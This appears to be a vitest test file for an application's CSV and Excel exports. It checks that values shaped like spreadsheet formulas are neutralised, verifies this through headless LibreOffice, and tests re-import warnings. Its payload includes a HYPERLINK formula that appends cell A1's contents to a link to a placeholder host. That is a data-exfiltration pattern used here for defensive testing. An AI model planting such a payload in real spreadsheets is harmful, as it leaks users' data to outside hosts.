import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { createBackend } from '../../electron/backend/backend';
import { frozenClock } from '../../electron/backend/clock';
import type { ActorInput } from '../../shared/actors/schemas';
import { fictitiousSiret } from '../../electron/backend/territory/demo/demoDirectory';
import { useActorsBackend } from './support/actorsBackend';
import { waitForImport } from './support/importJob';
import { seedTerritory } from './support/seedTerritory';
import { useTempDir } from './support/tempDir';
import { callOk } from './support/callOk';
import { spreadsheetRecords } from './support/spreadsheetRecords';

/**
 * Formula injection: names and addresses a spreadsheet would run (`=HYPERLINK(…)`, `=2+3`) reach LibreOffice
 * as text from the standard CSV (a leading quote) and the workbook for Excel (text cells); numbers and telephone numbers stay as they are; the standard CSV read back
 * into Maillage gives the values as typed, without quotes piling up, and the import warns about them.
 */

const HYPERLINK = '=HYPERLINK("https://exemple.invalid/?d="&A1;"Cliquez ici")';

const payload: ActorInput = {
  name: HYPERLINK,
  siret: fictitiousSiret('8123456780009'),
  roles: ['lieu_mediation'],
  address: '=2+3',
  addressComplement: '@SUM(1+1)',
  communeCode: '38185',
  postcode: '38000',
  latitude: 45.18,
  longitude: -0.5,
  otherLabels: '-2+3',
  lastVerifiedOn: '2026-03-01',
  places: [
    {
      name: HYPERLINK,
      address: '=2+3',
      addressComplement: '@SUM(1+1)',
      postcode: '38000',
      communeCode: '38185',
      latitude: 45.18,
      longitude: -0.5,
      phone: '+33 5 49 00 00 00',
    },
  ],
};

const ok = callOk;

const rowsOf = (csv: string) =>
  Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data;

/** LibreOffice Calc opens the exports as a user's spreadsheet would (`.ci/run` installs it). */
const scratch = mkdtempSync(join(tmpdir(), 'maillage-calc-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

function toOds(path: string, filter?: string): string {
  execFileSync(
    'soffice',
    [
      `-env:UserInstallation=file://${join(scratch, 'profile')}`,
      '--headless',
      ...(filter ? [`--infilter=${filter}`] : []),
      '--convert-to',
      'ods',
      '--outdir',
      scratch,
      path,
    ],
    { stdio: 'pipe', timeout: 120_000 },
  );
  const ods = path.replace(/\.(csv|xlsx)$/, '.ods');
  return execFileSync('unzip', ['-p', ods, 'content.xml'], { encoding: 'utf8' });
}

describe('formula injection in the exports (standard CSV, workbook for Excel)', () => {
  const api = useActorsBackend();

  it('writes formula-looking values with a leading quote, numbers and telephone numbers as they are', async () => {
    api.open();
    await api.create(payload);
    const standard = await api.ok('export.file', { format: 'standardCsv' });
    const [row] = rowsOf(standard.content);
    expect(row).toMatchObject({
      nom: `'${HYPERLINK}`,
      adresse: "'=2+3",
      complement_adresse: "'@SUM(1+1)",
      autres_formations_labels: "'-2+3",
      longitude: '-0.5',
      telephone: '+33549000000',
    });

    // The workbook's cells are text cells, never formulas: the values as typed, without a quote.
    const { records } = spreadsheetRecords(await api.ok('export.file', { format: 'spreadsheet' }));
    expect(records[0]).toMatchObject({
      Acteur: HYPERLINK,
      Lieu: HYPERLINK,
      Adresse: '=2+3',
      'Complément d’adresse': '@SUM(1+1)',
      Longitude: -0.5,
      // As the record reads it (`formatPhone`).
      Téléphone: '05\u00a049\u00a000\u00a000\u00a000',
    });
  });

  it('is read by LibreOffice as text: no formula, no link', async () => {
    api.open();
    await api.create(payload);
    const standard = await api.ok('export.file', { format: 'standardCsv' });
    const workbook = await api.ok('export.file', { format: 'spreadsheet' });
    writeFileSync(join(scratch, 'standard.csv'), standard.content);
    writeFileSync(join(scratch, 'annuaire.xlsx'), Buffer.from(workbook.content, 'base64'));

    const standardXml = toOds(join(scratch, 'standard.csv'), 'CSV:44,34,76,1');
    const workbookXml = toOds(join(scratch, 'annuaire.xlsx'));
    for (const [file, content] of [
      ['standard.csv', standardXml],
      ['annuaire.xlsx', workbookXml],
    ] as const) {
      expect(content, file).not.toContain('table:formula');
      expect(content, file).not.toContain('xlink:href');
      expect(content, file).toContain('HYPERLINK(');
    }
    // The CSV defuses with a quote; the workbook's text cell needs none.
    expect(standardXml).toContain('<text:p>&apos;=2+3</text:p>');
    expect(workbookXml).toContain('<text:p>=2+3</text:p>');
    // The telephone number and the negative longitude are values, not text starting with a quote.
    expect(standardXml).toContain('office:value="-0.5"');
    expect(standardXml).not.toContain('&apos;+33');
    // The workbook: the phone in pairs and the postcode are text (no leading zero lost to a number), the
    // longitude a number, the last verification a date.
    expect(workbookXml).toContain('<text:p>05\u00a049\u00a000\u00a000\u00a000</text:p>');
    expect(workbookXml).not.toContain('office:value="38000"');
    expect(workbookXml).toContain('<text:p>38000</text:p>');
    expect(workbookXml).toContain('office:value="-0.5"');
    expect(workbookXml).toContain('office:date-value="2026-03-01');
  });

  it('was evaluated before the rule: the same file without quotes makes LibreOffice compute 5', () => {
    // A guard on the check itself: if LibreOffice stopped evaluating formulas, the test above would prove nothing.
    writeFileSync(join(scratch, 'raw.csv'), 'a,b\r\n=2+3,x\r\n');
    const content = toOds(join(scratch, 'raw.csv'), 'CSV:44,34,76,1');
    expect(content).toContain('table:formula="of:=2+3"');
  });
});

describe('reading our own standard CSV back', () => {
  const api = useActorsBackend();
  const tempDir = useTempDir();

  it('gives back the values as typed, warns about each, and exports them again the same way', async () => {
    api.open();
    await api.create(payload);
    const exported = await api.ok('export.file', { format: 'standardCsv' });

    const second = createBackend({
      databasePath: join(tempDir(), 'second.sqlite'),
      clock: frozenClock('2026-04-05T10:00:00Z'),
    });
    try {
      seedTerritory(second.ctx.sqlite);
      const input = {
        fileName: exported.fileName,
        contentBase64: Buffer.from(exported.content).toString('base64'),
      };
      const preview = await ok(second, 'import.preview', input);
      const warned = preview.warnings.filter((w) => /formule/.test(w.reason));
      expect(warned.map((w) => [w.line, w.field])).toEqual(
        expect.arrayContaining([
          [2, 'nom'],
          [2, 'adresse'],
          [2, 'complement_adresse'],
          [2, 'autres_formations_labels'],
        ]),
      );
      expect(warned.map((w) => w.field)).not.toContain('telephone');
      expect(warned.map((w) => w.field)).not.toContain('longitude');
      expect(warned.find((w) => w.field === 'adresse')!.reason).toBe(
        'Valeur commençant par «\u00a0=\u00a0», qu’un tableur prendrait pour une formule\u00a0: «\u00a0=2+3\u00a0». Elle est importée comme texte\u00a0; les exports CSV la précéderont d’une apostrophe.',
      );

      const started = await ok(second, 'import.start', input);
      expect((await waitForImport(second, started)).state).toBe('done');
      const actors = second.ctx.sqlite.prepare('SELECT name, address, other_labels FROM actor').all();
      expect(actors).toEqual([{ name: HYPERLINK, address: '=2+3', other_labels: '-2+3' }]);

      const again = await ok(second, 'export.file', { format: 'standardCsv' });
      const [before] = rowsOf(exported.content);
      const [after] = rowsOf(again.content);
      expect(after!.nom).toBe(before!.nom);
      expect(after!.adresse).toBe(before!.adresse);
      expect(after!.autres_formations_labels).toBe(before!.autres_formations_labels);
    } finally {
      await second.close();
    }
  });
});
